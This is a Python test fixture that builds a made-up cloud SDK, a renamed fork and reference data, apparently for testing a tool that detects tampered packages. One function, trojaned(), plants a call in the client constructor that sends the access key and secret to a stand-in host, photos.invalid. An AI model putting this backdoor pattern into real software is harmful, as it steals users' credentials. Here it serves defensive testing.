"""A made-up SDK, "nimbus", its releases, and what people make of it. Inert: every host ends in .invalid."""

from __future__ import annotations

from collections.abc import Mapping

from stockade.acquire.fetch import kind_of
from stockade.analyse import shapes
from stockade.analyse.identity.reference import Known, Reference, written
from stockade.model.project import Digest
from tests.support.archives import wheel, wheel_name

Files = dict[str, str]

_CREDENTIALS = '''\
"""Who calls."""

import hashlib
import hmac


class AccessKey:
    """A key and its secret."""

    def __init__(self, access_key_id, access_key_secret):
        self._access_key_id = access_key_id
        self._access_key_secret = access_key_secret

    def sign(self, text):
        digest = hmac.new(self._access_key_secret.encode("utf-8"), text.encode("utf-8"), hashlib.sha256)
        return digest.hexdigest()  # what the service expects
'''

_METHOD = '''
    def {verb}_{noun}(self, region_id, {noun}_id, *, dry_run=False, **options):
        """{verb} one {noun}."""
        request = self._request("{noun}", "{verb}", region_id=region_id)
        request["{noun}_id"] = {noun}_id
        if dry_run:
            request["dry_run"] = "true"
        for key, value in sorted(options.items()):
            request[key] = str(value)
        response = self._send(request, signed=True)
        return response.get("{noun}", {{}})
'''


def _client() -> str:
    head = """\
from nimbus.auth import AccessKey

ENDPOINT = "https://{region}.nimbus.invalid"


class Client:
    def __init__(self, access_key_id, access_key_secret, region_id=None):
        self._key = AccessKey(access_key_id, access_key_secret)
        self._region_id = region_id
        self._headers = {"user-agent": "nimbus"}

    def _request(self, noun, verb, region_id=None):
        return {"action": f"{verb}{noun}", "region": region_id or self._region_id}

    def _send(self, request, signed):
        text = "&".join(f"{key}={value}" for key, value in sorted(request.items()))
        return {"signature": self._key.sign(text) if signed else ""}
"""
    verbs, nouns = ("create", "delete", "describe"), ("disk", "image", "network", "server", "snapshot")
    return head + "".join(_METHOD.format(verb=verb, noun=noun) for noun in nouns for verb in verbs)


def sdk(version: str = "2.0", package: str = "nimbus") -> Files:
    """The installed files of a release; `package` is the top-level name, in imports too."""
    client = _client()
    if version.startswith("1."):
        client = client.replace('{"user-agent": "nimbus"}', '{"user-agent": "nimbus/1"}')
    files = {
        "__init__.py": f'from {package}.client import Client\n\n__version__ = "{version}"\n',
        "auth.py": _CREDENTIALS,
        "client.py": client.replace("from nimbus.", f"from {package}."),
    }
    return {f"{package}/{path}": text for path, text in files.items()}


def trojaned(package: str = "nimbus") -> Files:
    """A copy whose constructor hands the secret to somebody."""
    files = sdk("2.0", package)
    path = f"{package}/client.py"
    kept = "        self._region_id = region_id\n"
    added = kept + "        photo_of(access_key_id, access_key_secret)\n"
    function = """

def photo_of(access_key_id, access_key_secret):
    import urllib.request

    urllib.request.urlopen("https://photos.invalid/", data=f"{access_key_id}:{access_key_secret}".encode())
"""
    files[path] = files[path].replace(kept, added) + function
    return files


def fork(package: str = "stratus") -> Files:
    """A renamed fork, formatted otherwise, with an honest method more."""
    files = {path: text.replace('"', "'").replace("'''", '"""') for path, text in sdk("2.0", package).items()}
    files[f"{package}/client.py"] += '''
    def close(self):
        """Forget the key."""
        self._key = None
'''
    return files


def known(name: str, releases: Mapping[str, Mapping[str, str]], *, most: int = 10_000) -> Known:
    """What a reference keeps of a project with these releases, the newest first."""
    found = []
    for version, files in releases.items():
        filename = wheel_name(name, version)
        data = memoryview(wheel(name, version, files))
        one = shapes.shape(data, filename=filename, kind=kind_of(filename), sha256=Digest("0" * 64))
        found.append((version, shapes.decode(one.extra)))
    return shapes.known(name, found, most=most)


def reference(*more: Known) -> Reference:
    """A reference of two releases of nimbus-sdk, and of `more`."""
    nimbus = known("nimbus-sdk", {"2.0": sdk("2.0"), "1.0": sdk("1.0")})
    return Reference(memoryview(written((nimbus, *more))))
